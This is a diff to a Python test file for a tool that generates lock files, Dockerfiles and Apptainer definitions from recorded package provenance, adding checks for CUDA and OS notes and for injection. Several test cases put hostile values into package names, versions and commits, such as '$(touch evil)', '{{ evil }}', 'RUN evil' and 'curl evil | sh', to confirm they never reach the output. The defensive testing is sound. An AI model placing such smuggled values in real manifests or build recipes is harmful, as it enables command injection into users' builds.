@@ -109,6 +109,21 @@ def test_old_record_gives_the_main_packages_and_a_warning() -> None:
     assert pins(files["requirements.lock"]) == ["torch==2.13.0+cpu"]
     assert "The packages that these require are missing here" in comments(files["requirements.lock"])
     assert environment_table(files)["lists_all_packages"] is False
+    assert "Not complete: the runs recorded their main packages only." in files["Dockerfile"]
+
+
+@pytest.mark.parametrize(
+    ("packages", "note"),
+    [
+        pytest.param({"nvidia-cublas": "13.1.1.3"}, "apptainer run --nv", id="libraries of CUDA"),
+        pytest.param({"torch": "2.13.0+cu130"}, "apptainer run --nv", id="build for CUDA"),
+        pytest.param({"six": "1.17.0"}, "Recorded on Linux-6.1-x86_64-with-glibc2.36.", id="operating system"),
+    ],
+)
+def test_recipes_state_what_else_the_packages_need(packages: dict[str, str], note: str) -> None:
+    files = texts(record(**packages))
+    assert note in files["Dockerfile"]
+    assert note in files["apptainer.def"]
 
 
 def test_version_with_a_label_asks_for_an_index_that_has_it() -> None:
@@ -135,6 +150,9 @@ HOSTILE = "1.0\nRUN curl evil | sh"
         pytest.param(record(**{"six\n--index-url https://evil": "1.0"}), id="name"),
         pytest.param(record(**{"six @ https://evil/six.whl": "1.0"}), id="name with an address"),
         pytest.param(record(**{"-r evil": "1.0"}), id="name like an option"),
+        pytest.param(record(six="1.0 --hash=sha256:evil"), id="version with a hash"),
+        pytest.param(record(**{"$(touch evil)": "1.0"}), id="name like a command"),
+        pytest.param(record(six=Distribution("1", editable=True, commit="{{ evil }}")), id="template of Apptainer"),
         pytest.param(record(six=Distribution("1", editable=True, commit="x\nRUN evil")), id="commit"),
         pytest.param(record(six="1.0", python=Python("3.11.7\nRUN evil", "CPython")), id="python"),
         pytest.param(record(six="1.0", python=Python("3.11.7", 'CPython"\nevil')), id="implementation"),
@@ -146,6 +164,8 @@ def test_recorded_text_cannot_add_a_line(hostile: ProvenanceRecord) -> None:
             list(map(Requirement, tomllib.loads(text)["project"]["dependencies"]))
         else:
             assert not re.search(r"^[^#\n]*(evil|curl)", text, re.MULTILINE), name
+        if name in ("Dockerfile", "apptainer.def"):
+            assert "evil" not in text
 
 
 def test_experiment_without_records_gives_files_that_restore_nothing() -> None:
